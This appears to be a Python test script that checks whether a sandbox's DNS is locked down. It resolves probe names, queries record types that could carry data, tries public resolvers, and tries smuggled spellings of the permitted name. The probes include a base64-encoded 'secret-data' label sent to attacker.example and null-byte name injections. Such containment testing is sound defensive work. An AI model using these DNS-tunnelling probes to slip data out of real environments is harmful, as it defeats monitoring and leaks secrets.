"""Names that carry data, names of the host's network, resolvers of the world.

Arguments: the name server that a program inside finds, a granted name.
"""

import socket
import struct
import sys

server, granted = sys.argv[1], sys.argv[2]


def query(name, kind=1, to=None, transport="udp"):
    labels = b"".join(bytes([len(label)]) + label for label in (part.encode() for part in name.split(".")))
    message = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    kind_of_socket = socket.SOCK_DGRAM if transport == "udp" else socket.SOCK_STREAM
    with socket.socket(socket.AF_INET, kind_of_socket) as sock:
        sock.settimeout(1)
        sock.connect((to or server, 53))
        sock.sendall(message if transport == "udp" else struct.pack("!H", len(message)) + message)
        answer = sock.recv(4096)
        return answer if transport == "udp" else answer[2:]


def counts(answer):
    return struct.unpack("!HHHHHH", answer[:12])


# Whatever is asked, what comes back is made here: always the same address, so nothing was looked up.
seen = set()
for name in ("c2VjcmV0LWRhdGE.attacker.example", "a.b.c.d.e.example.org", "metadata.google.internal", "kubernetes.default.svc", "router.lan"):
    seen.add(socket.gethostbyname(name))
if len(seen) != 1 or not next(iter(seen)).startswith("198.1"):
    print("escaped: names are told apart:", seen)

# Nothing but addresses has an answer.
for what, kind in {"TXT": 16, "MX": 15, "NULL": 10, "SRV": 33, "CNAME": 5, "PTR": 12, "ANY": 255, "HTTPS": 65, "SVCB": 64, "AAAA": 28}.items():
    for transport in ("udp", "tcp"):
        try:
            if counts(query(granted, kind, transport=transport))[3]:
                print("escaped: an answer of type", what)
        except OSError:
            pass

# Other resolvers answer as ours does or not at all.
for address in ("8.8.8.8", "1.1.1.1", "9.9.9.9", "127.0.0.53"):
    for transport in ("udp", "tcp"):
        try:
            if query("example.org", to=address, transport=transport):
                print("escaped: a resolver at", address)
        except OSError:
            pass

# Odd spellings of a granted name are that name or none.
expected = socket.gethostbyname(granted)
for name in (granted.upper(), granted + "."):
    if socket.gethostbyname(name) != expected:
        print("escaped: spelling", name)
for name in (granted + "\0.example.org", granted + "%00.example.org", "-" + granted, granted.replace(".", "..")):
    try:
        if socket.gethostbyname(name) == expected:
            print("escaped: spelling", repr(name))
    except (OSError, TypeError, ValueError):
        pass
print("done")
